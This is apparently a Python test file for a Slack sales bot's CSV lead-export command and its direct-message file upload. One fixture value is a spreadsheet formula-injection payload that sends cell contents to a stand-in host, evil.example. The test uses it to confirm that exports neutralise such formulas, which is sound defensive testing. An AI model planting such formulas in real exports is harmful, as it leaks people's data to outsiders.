"""`/leads export [period]` end to end (SPEC §7), and the DM file upload it uses.

Signed slash commands through the sandbox, the real bot on a fake clock. The
story: one lead on Monday 5 January 2026 at 09:00 UTC (London time in January);
eight days later three more, a minute apart: A (a formula for a name, answers,
UTM tags), B (unicode, claimed by the rep it was offered to) and C (erased).
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from slack_sdk.web.async_client import AsyncWebClient
from sqlalchemy import update

from bot.clock import FakeClock
from bot.config import EXAMPLE_CONFIG_PATH, load_config
from bot.domain.export import FIXED_COLUMNS
from bot.domain.periods import PERIOD_HELP, parse_period
from handlers.export_command import export_commands
from handlers.report_chart import funnel_chart_png
from handlers.slack_commands import Invocation, refusal
from handlers.slack_files import SlackFiles, SlackUploadError
from handlers.slack_sender import build_web_client
from sandbox import Sandbox
from sandbox.filestore import SharedFile
from store import export as export_store
from store import leads as lead_store
from store.db import Database
from store.models import Lead
from tests.harness import (
    BOT_TOKEN,
    UNREACHABLE_SLACK,
    RunningBot,
    running_bot,
    wait_for_card,
    with_ladder,
)

SALES = "C0SALES01"
MANAGER, ALICE = "U0MGR01", "U0ALICE1"
LONDON = ZoneInfo("Europe/London")
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
REP_NAMES = {r.id: r.name for r in load_config(EXAMPLE_CONFIG_PATH).reps}


@pytest.fixture
async def bot(database_url: str, slack: Sandbox, clock: FakeClock) -> AsyncIterator[RunningBot]:
    # Only the five-minute mark: no nag or re-offer changes an owner as the clock moves.
    config = with_ladder([("5m", "no_contact", "mark_missed")])
    async with running_bot(database_url, slack.api_url, clock=clock, config=config) as running:
        slack.request_url = f"{running.url}/slack/events"
        yield running


async def command(slack: Sandbox, user: str, text: str, channel: str = SALES) -> str:
    """Run `/leads text` as `user`; what Slack shows them: the ack, or (for a slow
    subcommand, whose ack is empty) the answer posted later to the response_url."""
    before = len(slack.ephemerals(channel, user))
    answered = len(slack.log.matching("response_url"))
    result = await slack.send_slash_command(user, channel, text)
    assert result.status == 200, result
    if len(slack.ephemerals(channel, user)) == before:
        await slack.wait_for_call("response_url", count=answered + 1, timeout=10.0)
    shown = slack.ephemerals(channel, user)
    assert len(shown) == before + 1
    return shown[-1].text


def parse(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def header(content: bytes) -> list[str]:
    return next(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def dm_files(slack: Sandbox, user: str) -> list[tuple[str, SharedFile]]:
    """The files shared in the bot's DM with `user`: (the message's text, the file)."""
    dm = slack.dm_channel_for(user)
    assert dm is not None, f"no DM with {user}"
    stored = {f.id: f for f in slack.files()}
    return [
        (m.text, stored[f["id"]])
        for m in slack.messages(dm)
        if m.subtype == "file_share"
        for f in m.files or []
    ]


async def new_lead(bot: RunningBot, slack: Sandbox, body: dict[str, Any]) -> int:
    status, created = await bot.post_lead(body)
    assert status == 201, created
    await wait_for_card(slack, created["id"])
    return int(created["id"])


async def stored(bot: RunningBot, lead_id: int) -> Lead:
    async with bot.services.db.reading() as session:
        lead = await session.get(Lead, lead_id)
    assert lead is not None
    return lead


@pytest.fixture
async def story(bot: RunningBot, slack: Sandbox, clock: FakeClock) -> dict[str, int]:
    old = await new_lead(bot, slack, {"email": "old@example.com", "name": "Olive Old"})
    clock.advance(days=8)
    a = await new_lead(
        bot,
        slack,
        {
            "email": "anna@example.com",
            "name": EVIL_NAME,
            "company": "Initech",
            "source": "webinar",
            "answers": {"timeline": "this quarter", "budget": 5000},
            "utm": {"source": "google", "medium": "cpc", "campaign": "spring"},
        },
    )
    clock.advance(60)
    b = await new_lead(
        bot,
        slack,
        {
            "email": "zoe@example.com",
            "name": "Zoë Ñúñez 山田",
            "phone": "+44 20 7946 0018",
            "company": "Ålborg & Søn",
            "answers": {"company_size": "51-200"},
        },
    )
    offered = (await stored(bot, b)).offered_rep_id
    assert offered is not None
    card = await wait_for_card(slack, b)
    await slack.click_button(offered, SALES, card.response["ts"], "Claim")
    await slack.wait_for_call(
        "chat.update", lambda c: c.args.get("ts") == card.response["ts"], timeout=10.0
    )
    clock.advance(60)
    c = await new_lead(
        bot,
        slack,
        {"email": "carl@example.com", "name": "Carl", "answers": {"reason": "private"}},
    )
    async with bot.services.db.transaction() as session:
        await session.execute(update(Lead).where(Lead.id == c).values(erased_at=clock.now()))
    clock.advance(60)  # a period ends at "now" (exclusive): C is a minute old
    return {"old": old, "a": a, "b": b, "c": c}


# ------------------------------------------------------------------------ the command


async def test_a_manager_gets_the_period_as_a_csv_file_in_their_dm(
    bot: RunningBot, slack: Sandbox, story: dict[str, int]
) -> None:
    answer = await command(slack, MANAGER, "export 7d")
    assert answer == "Exported 3 leads (last 7 days): sent to you as a DM."

    [(comment, file)] = dm_files(slack, MANAGER)
    assert (file.name, file.title, file.mimetype) == (
        "leads-7d.csv",
        "Leads captured: last 7 days",
        "text/csv",
    )
    assert comment == "Leads captured: last 7 days. 3 leads, newest first; times in Europe/London."
    content = slack.file_content(file.id)
    assert header(content) == [
        *FIXED_COLUMNS,
        "answer_budget",
        "answer_company_size",
        "answer_timeline",
    ]  # C's "reason" is erased with C: no column for it
    rows = parse(content)
    assert [r["id"] for r in rows] == [str(story[k]) for k in ("c", "b", "a")]  # newest first
    c, b, a = rows

    lead_a, lead_b = await stored(bot, story["a"]), await stored(bot, story["b"])
    for row, lead in ((a, lead_a), (b, lead_b)):
        assert row["captured_at"] == lead.captured_at.astimezone(LONDON).isoformat(
            timespec="seconds"
        )
        assert (row["state"], row["grade"], row["score"], row["queue"], row["sla_status"]) == (
            lead.state,
            lead.grade or "",
            str(lead.score),
            lead.queue_id or "",
            lead.sla_status or "",
        )
    assert a["captured_at"] == "2026-01-13T09:00:00+00:00"
    assert a["name"] == "'" + EVIL_NAME  # shown as text by a spreadsheet, never run
    assert (a["email"], a["company"], a["source"], a["intake"]) == (
        "anna@example.com",
        "Initech",
        "webinar",
        "api",
    )
    assert (a["utm_source"], a["utm_medium"], a["utm_campaign"]) == ("google", "cpc", "spring")
    assert (a["answer_budget"], a["answer_timeline"], a["answer_company_size"]) == (
        "5000",
        "this quarter",
        "",
    )
    assert (a["owner_id"], a["owner_name"], a["claimed_at"]) == ("", "", "")

    assert (b["name"], b["company"], b["phone"]) == (
        "Zoë Ñúñez 山田",
        "Ålborg & Søn",
        "'+44 20 7946 0018",
    )
    assert b["state"] == "claimed" and b["owner_id"] == lead_b.owner_id
    assert lead_b.owner_id is not None and lead_b.claimed_at is not None
    assert b["owner_name"] == REP_NAMES[lead_b.owner_id]
    assert b["claimed_at"] == lead_b.claimed_at.astimezone(LONDON).isoformat(timespec="seconds")
    assert b["answer_company_size"] == "51-200"

    assert [c[k] for k in ("name", "email", "phone", "company")] == ["", "", "", ""]
    assert c["captured_at"] == "2026-01-13T09:02:00+00:00" and c["intake"] == "api"


async def test_without_a_period_the_last_30_days_are_exported(
    slack: Sandbox, story: dict[str, int]
) -> None:
    answer = await command(slack, MANAGER, "export")
    assert answer == "Exported 4 leads (last 30 days): sent to you as a DM."
    [(_, file)] = dm_files(slack, MANAGER)
    assert file.name == "leads-30d.csv"
    rows = parse(slack.file_content(file.id))
    assert [r["id"] for r in rows][-1] == str(story["old"])
    assert rows[-1]["name"] == "Olive Old"


async def test_an_explicit_date_range_names_the_file_after_it(
    slack: Sandbox, story: dict[str, int]
) -> None:
    answer = await command(slack, MANAGER, "export 2026-01-05..2026-01-05")
    assert answer == "Exported 1 lead (2026-01-05 → 2026-01-05): sent to you as a DM."
    [(_, file)] = dm_files(slack, MANAGER)
    assert file.name == "leads-2026-01-05..2026-01-05.csv"
    assert [r["id"] for r in parse(slack.file_content(file.id))] == [str(story["old"])]


async def test_only_managers_may_export(slack: Sandbox, story: dict[str, int]) -> None:
    for text in ("export", "export 7d", "export nonsense words"):
        assert await command(slack, ALICE, text) == refusal("export")
    assert slack.files() == [] and slack.log.matching("files.getUploadURLExternal") == []
    assert "`/leads export [period]`" in await command(slack, ALICE, "help")


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("export 7d extra", ""),
        ("export 7d 30d", ""),
        ("export lastweek", "`lastweek` is not a period."),
        ("export 0d", "`0d`: the number of days must be 1 to 3660."),
        ("export 2026-02-01..2026-01-01", "the first date is after the last."),
        ("export 2026-02-30..2026-03-01", "`2026-02-30` is not a date"),
        ("export <!channel>", "`&lt;!channel&gt;` is not a period."),
    ],
)
async def test_bad_arguments_get_the_usage_with_the_periods(
    bot: RunningBot, slack: Sandbox, text: str, problem: str
) -> None:
    answer = await command(slack, MANAGER, text)
    assert problem in answer
    assert "Usage: `/leads export [period]` (default `30d`)." in answer
    assert PERIOD_HELP in answer
    assert slack.files() == []


async def test_an_empty_period_says_so_and_sends_no_file(
    bot: RunningBot, slack: Sandbox, clock: FakeClock
) -> None:
    today = parse_period("today", clock.now(), LONDON)
    assert await command(slack, MANAGER, "export today") == f"No leads captured in {today.label}."
    assert slack.files() == [] and slack.log.matching("files.getUploadURLExternal") == []


async def test_a_failed_upload_is_reported_to_the_manager(
    slack: Sandbox, story: dict[str, int]
) -> None:
    slack.set_fault("upload_url", status=503)  # every try: the client retries a 503 twice
    answer = await command(slack, MANAGER, "export 7d")
    assert answer == ":warning: Couldn't upload the file to Slack: upload refused (HTTP 503)"
    assert slack.files() == []
    slack.clear_faults()
    # Nothing was spent: the next try works.
    assert (await command(slack, MANAGER, "export 7d")).startswith("Exported 3 leads")


@pytest.mark.parametrize("batch", [1, 2000])  # read one row at a time, or all at once
async def test_an_export_over_the_cap_holds_the_newest_and_says_so(
    bot: RunningBot,
    slack: Sandbox,
    clock: FakeClock,
    story: dict[str, int],
    batch: int,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(export_store, "BATCH", batch)
    files = SlackFiles(build_web_client(BOT_TOKEN, slack.api_url))
    services = bot.services
    [sub] = export_commands(services.db, clock, files, LONDON, max_rows=2).values()
    answer = await sub.run(Invocation(MANAGER, SALES, ("30d",)))
    assert answer == (
        "Exported 2 leads (last 30 days): sent to you as a DM. :warning: That is the most one "
        "export holds: only the newest 2 are in it. Export a shorter period for the rest."
    )
    [(_, file)] = dm_files(slack, MANAGER)
    rows = parse(slack.file_content(file.id))
    assert [r["id"] for r in rows] == [str(story["c"]), str(story["b"])]
    assert header(slack.file_content(file.id))[len(FIXED_COLUMNS) :] == ["answer_company_size"]

    exact = export_commands(services.db, clock, files, LONDON, max_rows=3)["export"]
    assert await exact.run(Invocation(MANAGER, SALES, ("7d",))) == (
        "Exported 3 leads (last 7 days): sent to you as a DM."
    )


async def test_the_header_and_the_rows_are_read_from_one_snapshot(db: Database) -> None:
    """A lead changed (or captured) between the two reads does not show in the second one,
    so the header always has a column for every answer in the rows."""
    at = datetime(2026, 1, 5, 9, 0, tzinfo=UTC)
    async with db.transaction() as session:
        first = await lead_store.insert_lead(
            session, now=at, state="new", intake="api", answers={"budget": "1k"}
        )
    async with db.reading() as session:
        await export_store.same_snapshot(session)
        keys = await export_store.export_answer_keys(session, at, at + timedelta(hours=1), 10)
        async with db.transaction() as writer:
            await writer.execute(
                update(Lead).where(Lead.id == first.id).values(answers={"late": "x"})
            )
            await lead_store.insert_lead(
                writer, now=at + timedelta(minutes=1), state="new", intake="api"
            )
        rows = [
            row
            async for batch in export_store.export_rows(session, at, at + timedelta(hours=1), 10)
            for row in batch
        ]
    assert keys == ["budget"]
    assert [(r.id, dict(r.answers)) for r in rows] == [(first.id, {"budget": "1k"})]


# ------------------------------------------------------------------------ the upload


async def test_a_png_chart_reaches_the_users_dm(slack: Sandbox) -> None:
    png = funnel_chart_png("Funnel — last 30 days", [("Captured", 10), ("Won", 2)])
    files = SlackFiles(build_web_client(BOT_TOKEN, slack.api_url))
    file_id = await files.upload_to_user(
        MANAGER, "funnel-30d.png", png, "Funnel: last 30 days", "Capture → won, last 30 days"
    )
    [(comment, file)] = dm_files(slack, MANAGER)
    assert file.id == file_id and slack.file_content(file_id) == png
    assert (file.name, file.title, file.mimetype) == (
        "funnel-30d.png",
        "Funnel: last 30 days",
        "image/png",
    )
    assert comment == "Capture → won, last 30 days"
    [opened] = await slack.wait_for_call("conversations.open")
    assert opened.args["users"] == MANAGER


async def test_upload_errors_become_one_exception_with_a_short_reason(slack: Sandbox) -> None:
    files = SlackFiles(build_web_client(BOT_TOKEN, slack.api_url))
    with pytest.raises(SlackUploadError) as unknown:
        await files.upload_to_user("U0NOBODY", "a.csv", b"a\n", "t", "c")
    assert unknown.value.reason == "user_not_found"

    slack.set_fault("upload_url", status=503, times=1)  # retried by the client: no error
    await files.upload_to_user(MANAGER, "ok.csv", b"a\n", "t", "c")
    assert [f.name for f in slack.files()] == ["ok.csv"]

    slack.set_fault("upload_url", status=500)
    with pytest.raises(SlackUploadError) as refused:
        await files.upload_to_user(MANAGER, "a.csv", b"a\n", "t", "c")
    assert refused.value.reason == "upload refused (HTTP 500)"
    slack.clear_faults()

    with pytest.raises(SlackUploadError) as empty:
        await files.upload_to_user(MANAGER, "a.csv", b"", "t", "c")
    assert empty.value.reason == "missing_argument"  # Slack refuses a zero-length file

    offline = SlackFiles(AsyncWebClient(token=BOT_TOKEN, base_url=UNREACHABLE_SLACK))
    with pytest.raises(SlackUploadError) as unreachable:
        await offline.upload_to_user(MANAGER, "a.csv", b"a\n", "t", "c")
    assert unreachable.value.reason.startswith("Slack unreachable (")
    assert [f.name for f in slack.files()] == ["ok.csv"]
